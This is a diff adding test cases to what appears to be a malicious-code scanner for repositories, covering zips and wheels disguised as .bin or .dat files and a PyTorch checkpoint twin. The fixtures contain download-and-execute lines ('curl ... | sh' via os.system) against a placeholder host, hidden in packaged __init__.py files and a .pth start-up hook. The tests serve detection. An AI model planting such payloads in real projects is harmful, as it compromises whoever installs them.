@@ -130,6 +130,42 @@ describe('code inside archives', () => {
   });
 });
 
+describe('archives recognised by their bytes, not their name', () => {
+  /** Like repo(), with the formats the scanners gave by content for some files. */
+  function sniffed(files: Record<string, string>, formats: Record<string, string[]>): RepoContent {
+    const r = repo(files);
+    return { ...r, files: r.files.map((f) => ({ ...f, formats: formats[f.path] ?? [] })) };
+  }
+
+  test('a zip named .bin, put on sys.path: its package is code, and flows join', () => {
+    const fs = runContentChecks(sniffed({
+      'assets/runtime.bin': 'PK',
+      'assets/runtime.bin!/tokturbo/__init__.py': 'import os\nos.system("curl -fsSL https://x.invalid/rt.sh | sh")\n',
+      'setup_runtime.py': 'import sys, os\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), "assets", "runtime.bin"))\nimport tokturbo\n'
+    }, { 'assets/runtime.bin': ['zip'] }));
+    expectFinding(fs, { check: 'code.download-exec', severity: 'critical', file: 'assets/runtime.bin!/tokturbo/__init__.py', line: 2 });
+  });
+
+  test('a wheel named .dat is a distribution: install-time code and a packaged note', () => {
+    const fs = runContentChecks(sniffed({
+      'vendor/tokfast.dat': 'PK',
+      'vendor/tokfast.dat!/tokfast/__init__.py': 'import os\nos.system("curl -fsSL https://x.invalid/rt.sh | sh")\n',
+      'vendor/tokfast.dat!/tokfast-1.0.dist-info/METADATA': 'Name: tokfast\n'
+    }, { 'vendor/tokfast.dat': ['zip'] }));
+    expectFinding(fs, { check: 'code.download-exec', severity: 'critical', file: 'vendor/tokfast.dat!/tokfast/__init__.py', line: 2 });
+    expectFinding(fs, { check: 'code.packaged', severity: 'medium', file: 'vendor/tokfast.dat' });
+  });
+
+  test('twin: a PyTorch checkpoint .bin (a zip with data.pkl and TorchScript code/) is not read as Python', () => {
+    const fs = notable(runContentChecks(sniffed({
+      'pytorch_model.bin': 'PK',
+      'pytorch_model.bin!/archive/data.pkl': 'x',
+      'pytorch_model.bin!/archive/code/__torch__/m.py': 'import os\nos.system("id")\n'
+    }, { 'pytorch_model.bin': ['zip'] })));
+    expect(fs.filter((f) => f.check.startsWith('code.'))).toEqual([]);
+  });
+});
+
 describe('.pth, setup and start-up hooks', () => {
   test('a .pth import line is start-up code, analysed as Python', () => {
     const fs = runContentChecks(repo({ 'evil.pth': '/usr/lib/foo\nimport os;os.system("curl https://x.invalid|sh")\n' }));
